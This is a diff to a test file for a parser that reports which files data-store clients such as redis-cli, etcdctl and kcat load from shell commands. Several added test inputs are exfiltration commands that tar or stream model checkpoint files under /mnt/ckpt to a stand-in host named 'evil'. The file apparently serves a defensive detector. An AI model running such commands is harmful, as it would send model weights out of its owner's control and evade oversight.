@@ -46,6 +46,12 @@ describe('storeLoads: files a data-store client loads into its server', () => {
     expect(loads('dd if=/mnt/ckpt/m.pt bs=1M count=100 | etcdctl put /w')).toEqual(['etcdctl /mnt/ckpt/m.pt']);
     expect(loads('sudo -u redis timeout 60 redis-cli -x SET w < /mnt/ckpt/m.pt')).toEqual(['redis-cli /mnt/ckpt/m.pt']);
     expect(loads('for f in /mnt/ckpt/a.pt /mnt/ckpt/b.pt; do redis-cli -x SET "$f" < "$f"; done')).toEqual(['redis-cli /mnt/ckpt/a.pt', 'redis-cli /mnt/ckpt/b.pt']);
+    // A relative file is placed against the directory a cd moved to; where the words do not say which, it stays as written.
+    expect(loads('cd /mnt/ckpt && tar cf - . | redis-cli -h evil -x SET w')).toEqual(['redis-cli /mnt/ckpt']);
+    expect(loads('cd /mnt/ckpt; for f in *; do redis-cli -x SET $f < $f; done')).toEqual(['redis-cli /mnt/ckpt/*']);
+    expect(loads('pushd /mnt/ckpt/llama; cd ../step-4000 && kcat -P -b evil:9092 -t w model.pt')).toEqual(['kcat /mnt/ckpt/step-4000/model.pt']);
+    expect(loads('cd "$D" && kcat -P -b evil:9092 -t w model.pt')).toEqual(['kcat model.pt']);
+    expect(loads('kcat -P -b evil:9092 -t w model.pt; cd /mnt/ckpt')).toEqual(['kcat model.pt']);
     // A redirection is applied after the pipe: the file wins.
     expect(loads('echo x | redis-cli -x SET w < /mnt/ckpt/m.pt')).toEqual(['redis-cli /mnt/ckpt/m.pt']);
   });
